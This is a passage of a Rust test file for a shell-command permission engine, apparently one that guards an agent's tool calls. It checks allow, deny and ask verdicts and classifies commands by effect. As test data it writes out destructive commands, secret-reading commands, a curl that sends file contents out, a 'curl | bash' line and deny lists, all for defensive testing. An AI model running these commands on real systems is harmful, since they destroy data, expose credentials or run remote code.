    let rules: &[&str] = &[
        "allow shell **",
        "deny shell git push *",
        "deny shell pip install *",
        "deny shell chmod 777 *",
        "deny shell sudo *",
        "deny shell ssh *",
        "deny shell terraform destroy *",
        "deny shell npm publish *",
        "deny shell kubectl delete *",
        "deny shell docker run --privileged *",
        "deny shell docker system prune *",
    ];
    check(&[
        (
            rules,
            &[
                "/usr/lib/git-core/git-send-pack origin",
                "python3 -m pip._internal install x",
                "python3 -m pip.__main__ install x",
                "chmod =777 x",
                "sudoedit x",
                "slogin x",
                "TF_CLI_ARGS_apply=-destroy terraform apply",
                "node /usr/lib/node_modules/npm/bin/npm-cli.js publish",
                "/usr/share/nodejs/npm/bin/npm-cli.js publish",
                "microk8s.kubectl delete pod x",
                "podman run --privileged x",
                "podman system prune",
                "nerdctl run --privileged x",
            ],
            Deny,
        ),
        (
            rules,
            &["vim sudo", "nvim docs/sudo ssh", "git grep sudo", "git grep -n 'git push'", "git log --grep='git push'"],
            Allow,
        ),
    ]);
}

#[test]
fn a_rule_about_an_effect_means_each_operation_that_has_it() {
    let project = TestProject::make();
    let effect = |line: &str, effect: &str| {
        let effect = toold_proto::effect::Effect::parse(effect).unwrap();
        effects_of(line, &project.place).contains(&effect)
    };
    for (of, lines) in [
        (
            "publish",
            "npm publish|pnpm publish|yarn publish|yarn npm publish|cargo publish|twine upload dist/x|poetry publish|uv publish|\
             gem push x.gem|docker push a/b|docker --log-level error push a/b|helm push x oci://y|gh release create v1|git send-email x|\
             goreleaser release|cargo release minor|cargo workspaces publish|vsce publish|dotnet nuget push x|mvn deploy|git push|npx semantic-release|sudo docker push a/b",
        ),
        (
            "destroy",
            "rsync -a --delete a b|rsync -a --del a b|rsync -a --delete-after a b|psql -c 'drop table x'|psql -c 'delete from x'|\
             sqlite3 x.db 'drop table x'|mysql -e 'truncate table x'|git checkout -- .|git checkout .|git restore .|git clean -fd|\
             truncate -s 0 x|find . -delete|shred x|redis-cli flushall|redis-cli -h h FLUSHALL|kubectl delete pod x|terraform destroy|\
             docker volume rm x|docker system prune -f|npm unpublish x|dropdb x|git filter-branch x|pulumi destroy|gsutil rm gs://b|\
             aws s3 rm s3://b|rm -rf x|git push --force|git stash clear|mkfs.ext4 x",
        ),
        (
            "secret",
            "vault kv get x|op read op://x|pass show x|gh auth token|heroku config|npm token list|az keyvault secret show --name x|\
             az storage account keys list|az acr credential show -n x|az cosmosdb keys list|az ad sp create-for-rbac|\
             az webapp config appsettings list|aws configure get aws_secret_access_key|aws ec2 create-key-pair|\
             aws secretsmanager get-secret-value|aws secretsmanager delete-secret|gcloud secrets versions access 1|\
             kubectl create secret generic x|kubectl get secret x",
        ),
        (
            "privilege",
            "gcloud projects add-iam-policy-binding p|aws iam attach-user-policy x|az role assignment create|aws lambda add-permission|\
             kubectl create clusterrolebinding x|install -m 4755 a b",
        ),
        (
            "system",
            "chown root f|install -o root a f|install -g g a f|apt-get install x|apt-get -y install x|sudo apt install x|dpkg -i x.deb|\
             pacman -Syu|useradd x|passwd|service x restart|/etc/init.d/x restart|systemctl restart x|systemctl poweroff|poweroff|\
             shutdown now",
        ),
        (
            "install",
            "yarn|yarn --cwd web|yarn install|npm it|pnpm it|pnpm install-test|go install x@v1|go run x.test/y@latest",
        ),
        (
            "change",
            "docker cp a.txt web:/etc/x|podman cp a.txt web:/etc/x|kubectl cp a.txt web-0:/etc/x|docker compose cp a web:/x",
        ),
    ] {
        for line in lines.split('|') {
            assert!(effect(line, of), "{line}: not {of}");
        }
    }
    for (of, line) in [
        ("publish", "npm pack"),
        ("publish", "docker pull a/b"),
        ("destroy", "rsync -a a b"),
        ("destroy", "psql -c 'select 1'"),
        ("destroy", "git -C web branch x"),
        ("destroy", "git checkout -b x"),
        ("secret", "vault status"),
        ("secret", "az keyvault secret list"),
        ("secret", "gcloud secrets describe x"),
        ("secret", "aws configure get region"),
        ("secret", "az vm show -n x"),
        ("privilege", "az role assignment list"),
        ("privilege", "gcloud projects get-iam-policy p"),
        ("system", "apt list --installed"),
        ("system", "dpkg -l"),
        ("system", "service x status"),
        ("system", "crontab -l"),
        ("install", "yarn --version"),
        ("install", "yarn test"),
        ("install", "go run ./cmd/x"),
        ("change", "docker cp web:/etc/x a.txt"),
        ("change", "kubectl cp web-0:/etc/x a.txt"),
    ] {
        assert!(!effect(line, of), "{line}: {of}");
    }
    check(&[
        (&["allow shell twine *", "allow shell redis-cli *"], &["twine upload x", "redis-cli flushall"], Ask),
        (&["allow shell twine upload *", "allow shell redis-cli *"], &["twine upload x", "redis-cli get x"], Allow),
    ]);
}

/// The effects of all commands of a line.
pub(crate) fn effects_of(line: &str, place: &CommandSetting) -> Vec<toold_proto::effect::Effect> {
    let environment =
        Environment::default().with([("HOME", place.home.as_os_str()), ("PATH", "/usr/bin:/bin".as_ref())]);
    let mut surroundings =
        Surroundings { cwd: &place.workspace, folders: &[], environment: &environment, may_read: &mut |_| true };
    let needs = needs(line, &mut surroundings);
    let commands = needs.iter().filter_map(Need::command);
    let all = commands
        .flat_map(|command| [&command.effects].into_iter().chain(command.elsewhere.iter().map(|inner| &inner.effects)));
    all.flat_map(|effects| effects.all().iter().collect::<Vec<_>>()).collect()
}

/// Of lines that only name what rules deny, none is refused, and none is asked about that would not be without the rule.
#[test]
fn a_rule_that_denies_is_not_about_words_that_run_nothing() {
    const NAMES: [&str; 10] = [
        "rm",
        "sudo",
        "git push",
        "npm publish",
        "curl",
        "docker rm",
        "rm -rf",
        "kubectl delete",
        "make deploy",
        "terraform destroy",
    ];
    // `P` is the program of the rule, and `CMD` all of its words.
    const LINES: &[&str] = &[
        "env FOO=P ls",
        "env FOO='CMD' ls",
        "FOO='CMD' ls",
        "git show HEAD:P",
        "git log --grep 'CMD'",
        "git log --author=P -- P",
        "git commit -m 'CMD'",
        "git commit -m P",
        "git commit -F - <<'END'\nCMD\nEND",
        "git branch --list 'P*'",
        "git diff HEAD -- P",
        "declare -A P",
        "declare x='CMD'",
        "local P=1",
        "export P=1",
        "f() { ls -la; }; f",
        "f() { grep 'CMD' README.md; }; f",
        "echo P",
        "echo 'CMD'",
        "echo \"CMD $HOME\"",
        "printf '%s\\n' 'CMD'",
        "grep P README.md",
        "grep -rn 'CMD' src",
        "grep -e 'CMD' -e P README.md",
        "rg 'CMD' src",
        "find . -name P",
        "find . -name 'P*' -type f",
        "ls P",
        "cat README.md | grep 'CMD'",
        "which P",
        "type P",
        "command -v P",
        "command -V P",
        "man P",
        "[ -x /usr/bin/P ]",
        "test P = P && echo yes",
        "[[ $x == P ]]",
        "case P in P) echo yes;; esac",
        "for P in a b; do echo $P; done",
        "x='CMD'; echo \"$x\"",
        "x=P; echo $x; ls $x",
        "# CMD\nls",
        "ls # CMD",
        "cat <<'END'\nCMD\nEND",
        "cat <<END\nCMD\nEND",
        "sed -n '/P/p' README.md",
        "sed 's/P/x/' README.md",
        "jq '.P' package.json",
        "sort P.txt",
        "mkdir P",
        "touch P",
        "cp P.txt x.txt",
        "tar -tf P.tar",
        "python3 P.py",
        "cargo test P",
        "npm test -- P",
        "pytest -k P",
        "docker ps --filter name=P",
        "kubectl get pods -l app=P",
        "ssh web1 ls P",
        "docker exec web ls P",
        "mytool --name P",
        "mytool list P",
        "ps aux | grep P",
        "pgrep P",
        "wc -l P",
        "diff P x",
        "unset P",
        "read P < README.md",
        "timeout 5 ls P",
        "xargs ls P",
        "! grep -q P README.md",
        "if grep -q 'CMD' README.md; then echo yes; fi",
        "while read -r P; do echo \"$P\"; done < README.md",
        "(cd src && ls P)",
        "bash -c 'echo P'",
        "bash -c 'grep P README.md'",
    ];
    let project = TestProject::make();
    let mut wrong = Vec::new();
    for name in NAMES {
        let program = name.split(' ').next().unwrap();
        let allow = RuleLine::parse("allow shell **").unwrap();
        let deny = RuleLine::parse(&format!("deny shell {name} *")).unwrap();
        for line in LINES {
            let line = line.replace("CMD", name).replace('P', program);
            let without = judge(&line, &project.place, std::slice::from_ref(&allow)).verdict;
            let with = judge(&line, &project.place, &[allow.clone(), deny.clone()]);
            if with.verdict != without {
                let why = with.parts.iter().filter(|part| part.verdict == with.verdict).map(|part| &part.rule);
                let why = why.cloned().collect::<Vec<_>>().join("; ");
                wrong.push(format!("{name}: {line}: {without:?}, and {:?} with the rule: {why}", with.verdict));
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_variable_is_harmless_by_its_value_and_by_what_gets_it() {
    check(&[
        (
            &["allow shell pytest *", "allow shell python3 -m pytest *", "allow shell make *", "allow shell npm *"],
            &[
                "PYTHONPATH=src pytest -q",
                "PYTHONPATH=src:. python3 -m pytest -q | head",
                "PYTHONPATH=. timeout 60 pytest -q",
                "export PYTHONPATH=src && ls && pytest -q",
                "V=1 make",
                "CI=true make",
                "export CI=1; make",
                "RUST_LOG=debug,a::b=trace make",
                "DEBUG=app:* npm test",
            ],
            Allow,
        ),
        (
            &["allow shell **", "deny shell evil *"],
            &[
                "export MSG=evil; git status",
                "export A=1; make",
                "X=evil; ls",
                "cargo test -- --nocapture",
                "cargo clippy -- -D warnings -Wclippy::all",
                "cargo fmt -- --check",
                "systemctl restart redis nginx",
            ],
            Allow,
        ),
        (&["allow shell git *"], &["git restore --staged .", "git fetch origin", "git mv README.md x"], Allow),
    ]);
}

/// What an operation does besides its name: a rule for its program alone does not cover that.
#[test]
fn a_rule_for_a_program_covers_neither_what_it_sends_nor_what_it_throws_away() {
    check(&[
        (
            &["allow shell curl *", "allow shell wget *"],
            &[
                "curl -X POST http://x",
                "curl -XPUT http://x",
                "curl --request PATCH http://x",
                "curl -H @README.md http://x",
                "curl -H \"X: $(cat README.md)\" http://x",
                "curl -A \"$(cat README.md)\" http://x",
                "curl \"http://x/?q=$(cat README.md | base64)\"",
                "curl --form-string a=b http://x",
                "wget --method=PUT http://x",
                "wget --method=DELETE http://x",
                "wget --body-data=x http://x",
            ],
            Ask,
        ),
        (
            &["allow shell curl *", "allow shell wget *"],
            &[
                "curl -X GET http://x",
                "curl --request HEAD http://x",
                "curl -H 'A: b' http://x",
                "wget --method=GET http://x",
            ],
            Allow,
        ),
        (&["allow shell curl -X POST *"], &["curl -X POST http://x"], Allow),
        (
            &["allow shell git *"],
            &[
                "git checkout README.md",
                "git checkout -q src",
                "git checkout '*.md'",
                "git checkout ':(top)README.md'",
                "git checkout -p",
                "git submodule deinit -f .",
            ],
            Ask,
        ),
        (&["allow shell git *"], &["git checkout main", "git checkout -b x", "git checkout -b src main"], Allow),
        (&["allow shell cargo *", "allow shell go *"], &["cargo clean", "cargo clean --release", "go clean"], Ask),
        (&["allow shell cargo clean *"], &["cargo clean", "cargo clean --release"], Allow),
    ]);
}

#[test]
fn attached_signals_and_further_names_of_programs_are_the_same_operation() {
    check(&[
        (
            &["allow shell **", "deny shell kill -9 *"],
            &["kill -sKILL 1", "kill -nKILL 1", "sudo kill -sKILL 1", "env kill --sig 9 1", "kill --signal=KILL 1"],
            Deny,
        ),
        (&["allow shell **", "deny shell kill -9 *"], &["kill -sTERM 1", "kill -s HUP 1"], Allow),
        (
            &["allow shell **", "deny shell shutdown *"],
            &["halt", "/sbin/halt", "systemctl halt", "systemctl kexec", "poweroff"],
            Deny,
        ),
        (&["allow shell **", "deny shell docker compose down *"], &["podman-compose down"], Deny),
        (&["allow shell **", "deny shell docker *"], &["podman-remote run x"], Deny),
        (&["allow shell **", "deny shell npm install -g *"], &["npm install --location global x"], Deny),
    ]);
}

/// A word behind the operation of a cloud is no verb.
#[test]
fn a_rule_about_an_operation_of_a_cloud_is_about_no_other_one() {
    let rules = &[
        "allow shell **",
        "deny shell aws s3 rm *",
        "deny shell aws ec2 terminate-instances *",
        "deny shell az vm delete *",
        "deny shell gcloud compute instances delete *",
    ];
    check(&[
        (
            rules,
            &[
                "aws s3 ls rm",
                "aws s3 ls s3://b --query rm",
                "aws s3 cp README.md rm",
                "aws ec2 describe-instances --filters terminate-instances",
                "az vm list --query delete",
                "gcloud compute instances list --filter delete",
            ],
            Allow,
        ),
        (
            rules,
            &[
                "aws s3 rm s3://b/x",
                "aws --profile p s3 rm s3://b/x",
                "aws s3 rm --recursive s3://b",
                "aws s3 mv README.md s3://b/x",
                "az vm delete -n x",
                "gcloud compute instances delete x",
            ],
            Deny,
        ),
        (&["allow shell **", "deny shell gcloud * delete *"], &["gcloud compute instances delete x"], Deny),
    ]);
}

/// `~` in a rule is the home folder, as in a command.
#[test]
fn a_rule_may_name_the_home_folder() {
    check(&[
        (&["deny shell rm -rf ~/*"], &["rm -rf ~/x", "rm -fr ~/a/b", "rm -rf \"$HOME/x\"", "cd ~ && rm -rf ~/x"], Deny),
        (&["deny shell rm -rf ~ *"], &["rm -rf ~", "rm -rf $HOME"], Deny),
        (&["deny shell rm -rf '~/'*"], &["rm -rf '~/x'"], Deny),
        (&["deny shell rm -rf '~/'*"], &["rm -rf ~/x"], Ask),
        (&["allow shell ~/bin/frob *"], &["~/bin/frob x"], Allow),
        (&["allow shell ~/bin/frob *"], &["/elsewhere/bin/frob x", "'~'/bin/frob x"], Ask),
    ]);
}

/// The widest pattern that an answer for longer offers.
#[test]
fn no_offer_covers_another_operation_than_the_one_that_was_asked_about() {
    let project = TestProject::make();
    let mut wrong = Vec::new();
    for (line, widest) in [
        ("python3 backend/manage.py migrate --x", "python3 backend/manage.py migrate *"),
        ("node cli.js publish --x", "node cli.js publish *"),
        ("python3 setup.py sdist", "python3 setup.py sdist"),
        ("python3 -m unittest discover -q", "python3 -m unittest *"),
        ("python3 -m pytest", "python3 -m pytest *"),
        ("python3 -m pytest tests/a.py -q", "python3 -m pytest *"),
        ("python3 -m mypy src", "python3 -m mypy *"),
        ("python3 -m alembic upgrade head", "python3 -m alembic upgrade *"),
        ("python3 -m alembic upgrade", "python3 -m alembic upgrade"),
        ("python3 -m timeit 'x = 1'", "python3 -m timeit 'x = 1'"),
        ("python3 -m cProfile x.py -v", "python3 -m cProfile x.py -v"),
        ("uv run python x.py -v", "uv run python x.py *"),
        ("uv run python3 -m pytest -q", "uv run python3 -m pytest *"),
        ("uv run python -c 'print(1)'", "uv run python -c 'print(1)'"),
        ("npx tsx x.ts", "npx tsx x.ts"),
        ("npx tsx x.ts -v", "npx tsx x.ts *"),
        ("npx ts-node -e 'x'", "npx ts-node -e x"),
        ("npx zx x.mjs", "npx zx x.mjs"),
        ("pnpm exec tsx x.ts", "pnpm exec tsx x.ts"),
        ("docker exec web python3 manage.py migrate -v", "docker exec web python3 manage.py migrate *"),
        ("frob '~/x'", "frob '~'/x"),
        ("dd if=a.img of=b.img", "dd if=*.img of=*.img"),
        ("yarn prisma migrate deploy --x", "yarn prisma migrate deploy *"),
        ("kubectl rollout restart d/x", "kubectl rollout restart *"),
        ("kubectl create ns x", "kubectl create ns *"),
        ("deno run -A scripts/serve.js", "deno run -A scripts/serve.js"),
        ("bash scripts/build.sh -n", "bash scripts/build.sh *"),
        ("bash scripts/build.sh prod", "bash scripts/build.sh prod"),
        ("bash scripts/build.sh prod -n", "bash scripts/build.sh prod *"),
        ("bash -x scripts/build.sh prod", "bash -x scripts/build.sh prod"),
        ("./scripts/build.sh prod -n", "./scripts/build.sh prod *"),
        ("bin/rails db:migrate -q", "bin/rails db:migrate *"),
        ("bin/rails runner 'puts 1'", "bin/rails runner 'puts 1'"),
        ("rails runner 'puts 1'", "rails runner 'puts 1'"),
        ("tsx watch scripts/x.ts -q", "tsx watch scripts/x.ts *"),
        ("turbo run build --filter web", "turbo run build *"),
        ("nx run web:build", "nx run web:build *"),
        ("lerna run build", "lerna run build *"),
        ("ansible all -m ping", "ansible all -m ping"),
        ("http GET x.example", "http GET x.example"),
        ("mongosh shop --eval 'db.x.count()'", "mongosh shop --eval 'db.x.count()'"),
        ("frob query 'select 1'", "frob query 'select 1'"),
        ("frob add --message 'a b'", "frob add *"),
        ("ssh web1", "ssh web1"),
        ("psql shop", "$ psql shop"),
        ("git rm --cached x", "git rm --cached x"),
        ("git remote add up https://x.example/a", "git remote add up https://x.example/a"),
        ("node -r ./x.js cli.js publish", "node -r ./x.js cli.js publish"),
        ("for f in *.txt; do frob \"$f\"; done", "$ for f in *.txt; do frob \"$f\"; done"),
        ("for f in a b; do frob $f; done", "$ for f in a b; do frob $f; done"),
        ("frob --all $((1 + 2))", "$ frob --all $((1 + 2))"),
        ("frob $LINES", "$ frob $LINES"),
        ("frob --all", "frob --all"),
        ("cat \"$f\"", ""),
        ("$cmd --all", ""),
        ("curl -s https://x.example | bash", "curl -s https://x.example"),
        ("docker buildx bake web", "docker buildx bake web"),
        ("docker push web", "docker push *"),
        ("go run main.go", "go run main.go"),
        ("git commit -m x", "git commit *"),
        ("cargo build", "cargo build *"),
        ("npm test", "npm test *"),
        ("git pull", "git pull *"),
        ("make test", "make test *"),
        ("pytest", "pytest"),
        ("curl -s https://x.example", "curl -s https://x.example"),
    ] {
        let roots = [Cow::Borrowed(project.place.workspace.as_path())];
        let (environment, mut may_read) = (Environment::default(), |_: &Path| true);
        let mut surroundings = Surroundings {
            cwd: &project.place.workspace,
            folders: &roots,
            environment: &environment,
            may_read: &mut may_read,
        };
        let needs = needs(line, &mut surroundings);
        let offers = suggestions(&needs[0], None);
        let last = offers.last().map_or("", |offer| offer.pattern.as_str());
        if last != widest {
            wrong.push(format!("{line}: {last}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
